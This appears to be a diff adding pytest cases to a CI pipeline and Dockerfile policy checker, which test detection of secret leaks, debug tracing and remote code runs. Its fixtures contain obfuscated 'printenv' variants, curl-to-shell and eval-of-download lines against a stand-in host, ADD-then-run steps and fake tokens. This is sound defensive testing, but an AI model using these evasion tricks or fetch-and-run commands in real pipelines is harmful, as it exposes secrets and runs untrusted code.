@@ -66,6 +66,89 @@ def test_an_image_is_found_in_every_spelling() -> None:
     assert rules_of(dockerfile=syntax) == {"policy-image-registry"}
 
 
-def test_honest_commands_stay_honest() -> None:
-    """The corpus of this file begins with a pair in which nothing is wrong."""
-    assert rules_of(with_command("bandit -r . \\\n  -ll")) == set()
+SAST = "    - bandit -r . -ll"
+HIDDEN = {
+    "a key that is no script": PIPELINE.replace(SAST, "    - !reference [.p, payload]") + ".p: {payload: [printenv]}\n",
+    "a variable referred to": PIPELINE.replace(SAST, "    - !reference [.p, variables, X]")
+    + ".p: {variables: {X: printenv}}\n",
+    "a list of its own": PIPELINE.replace(SAST, "    - !reference [.p]") + ".p: [printenv]\n",
+    "a variable": with_command("$CMD").replace("  IMAGE:", "  CMD: printenv\n  IMAGE:"),
+    "a variable of the shell": with_command("X=print; ${X}env"),
+    "parted words": with_command("pr''intenv"),
+    "parted by a backslash": with_command("p\\rintenv"),
+    "a token in a variable": with_command("T=$CI_JOB_TOKEN; echo $T"),
+    "the command of a service": PIPELINE.replace("alias: db", "alias: db\n      command: [sh, -c, printenv]"),
+    "an entrypoint": PIPELINE.replace('entrypoint: [""]', "entrypoint: [sh, -c, printenv]", 1),
+}
+BUILDS = {
+    "RUN <<EOF\nprintenv\nEOF": "policy-prints-environment",
+    "COPY <<EOF /x.sh\nprintenv\nEOF\nRUN sh /x.sh": "policy-prints-environment",
+    "ONBUILD RUN printenv": "policy-prints-environment",
+    "HEALTHCHECK CMD printenv": "policy-prints-environment",
+    'SHELL ["/bin/sh", "-c", "printenv; $0"]': "policy-prints-environment",
+    "ENV CMD=printenv\nRUN $CMD": "policy-prints-environment",
+    "ADD https://x.example/x.sh /x.sh\nRUN sh /x.sh": "policy-download-to-shell",
+    'ADD --chmod=755 ["https://x.example/x", "/x"]\nCMD ["/x"]': "policy-download-to-shell",
+    "ENV API_TOKEN glpat-abcdefghij0123456789": "policy-secret",
+    "ENV A=1 DB_PASSWORD=abcdefghij0123456789": "policy-secret",
+    "LABEL x=glpat-abcdefghij0123456789": "policy-secret",
+    "# glpat-abcdefghij0123456789": "policy-secret",
+}
+
+
+@pytest.mark.parametrize("where", HIDDEN)
+def test_what_a_job_runs_is_judged_wherever_it_stands(where: str) -> None:
+    """References and variables are put in first, and words put together."""
+    assert rules_of(HIDDEN[where]) == {"policy-prints-environment"}
+
+
+def test_what_is_downloaded_by_a_variable_is_found() -> None:
+    """The name of the program, or what it brought, may stand in a variable."""
+    assert rules_of(with_command("U=curl; $U https://x.example/x | sh")) == {"policy-download-to-shell"}
+    assert rules_of(with_command('X=$(curl -s https://x.example/x); eval "$X"')) == {"policy-download-to-shell"}
+
+
+@pytest.mark.parametrize("lines", BUILDS)
+def test_every_line_that_a_build_runs_is_judged(lines: str) -> None:
+    """Heredocs, triggers, checks and downloads by ADD as well, and secrets in whatever form and place."""
+    assert rules_of(dockerfile=DOCKERFILE.replace("WORKDIR /app", lines)) == {BUILDS[lines]}
+
+
+def test_a_finding_in_a_heredoc_is_on_its_line() -> None:
+    """Not on that of the instruction."""
+    dockerfile = DOCKERFILE.replace("WORKDIR /app", "RUN <<EOF\ntrue\nprintenv\nEOF")
+    assert [f.line for f in errors(check(files(dockerfile=dockerfile), registry=REGISTRY))] == [5]
+
+
+@pytest.mark.parametrize("value", ['"t"', '"$T"', "yes"])
+def test_a_debug_trace_is_refused_in_every_spelling(value: str) -> None:
+    """Only what is certainly a no passes."""
+    traced = PIPELINE.replace("  IMAGE:", f'  T: "true"\n  CI_DEBUG_TRACE: {value}\n  IMAGE:')
+    assert rules_of(traced) == {"policy-debug-trace"}
+    assert rules_of(PIPELINE.replace("  IMAGE:", '  CI_DEBUG_TRACE: "false"\n  IMAGE:')) == set()
+
+
+def test_values_from_elsewhere_are_refused() -> None:
+    """An input's value is not in the file, whatever its default is."""
+    spec = f"spec: {{inputs: {{x: {{default: printenv}}}}}}\n---\n{with_command('$[[ inputs.x ]]')}"
+    assert rules_of(spec) == {"policy-include"}
+
+
+def test_a_secret_in_a_comment_is_found() -> None:
+    """Everyone who reads the file reads its comments."""
+    assert rules_of(f"# glpat-abcdefghij0123456789\n{PIPELINE}") == {"policy-secret"}
+
+
+@pytest.mark.parametrize(
+    "honest",
+    [
+        "bandit -r . \\\n  -ll",
+        "printf 'a\\nb' | tr '\\n' ' '",
+        "V=1.2; echo $V \"it's\" 'x'",
+        "NAME=app; docker build -t $NAME .",
+        "grep -r 'env' .",
+    ],
+)
+def test_honest_commands_stay_honest(honest: str) -> None:
+    """What is put together is not more than what was written."""
+    assert rules_of(with_command(honest)) == set()
